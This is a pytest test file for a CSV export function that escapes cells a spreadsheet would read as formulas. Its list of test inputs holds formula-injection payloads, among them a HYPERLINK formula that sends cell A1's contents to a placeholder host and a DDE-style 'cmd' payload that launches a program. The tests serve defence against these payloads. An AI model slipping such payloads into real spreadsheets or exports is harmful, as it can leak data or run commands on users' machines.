import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dacompliance.reporting.csvs import BOM, safe, to_csv


def read(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


@pytest.mark.parametrize(
    "hostile",
    [
        "=1+1",
        '=HYPERLINK("http://example.invalid/?"&A1,"x")',
        "+44 1234",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u00a0=1",
    ],
)
def test_text_that_would_be_a_formula_is_text(hostile):
    assert read(to_csv(pd.DataFrame({"area": [hostile]})))[1] == ["'" + hostile]


@pytest.mark.parametrize(
    "plain", ["North = South", "5-a-side", "O'Brien's", "", "a@b", "“quoted”, and a comma", "£ ą 漢"]
)
def test_other_text_is_left_alone(plain):
    assert read(to_csv(pd.DataFrame({"area": [plain], "n": [1]})))[1] == [plain, "1"]
    assert safe(plain) == plain


def test_a_column_name_can_be_no_formula_either():
    assert read(to_csv(pd.DataFrame({"=1": [1]})))[0] == ["'=1"]


def test_numbers_are_left_alone_and_missing_is_empty():
    frame = pd.DataFrame({"n": [-5, 3], "rate": [np.nan, -0.25], "yes": [True, False], "word": [None, "x"]})
    assert read(to_csv(frame))[1:] == [["-5", "", "yes", ""], ["3", "-0.25", "no", "x"]]


def test_lines_end_as_the_format_asks_and_the_file_begins_with_its_mark():
    assert to_csv(pd.DataFrame({"a": [1]})) == b"\xef\xbb\xbfa\r\n1\r\n"


def test_a_frame_without_rows_is_its_header():
    assert read(to_csv(pd.DataFrame({"a": [], "b": []}))) == [["a", "b"]]


@given(st.lists(st.text(), min_size=1))
def test_no_cell_of_any_text_begins_a_formula_and_none_is_lost(cells):
    rows = read(to_csv(pd.DataFrame({"cell": pd.Series(cells, dtype=object), "end": 1})))
    found = [row[0] for row in rows[1:]]
    assert [row[1] for row in rows[1:]] == ["1"] * len(cells)
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) or cell.startswith(("\t", "\r")) for cell in found)
    assert [
        cell.removeprefix("'") if cell != given else cell for cell, given in zip(found, cells, strict=True)
    ] == cells
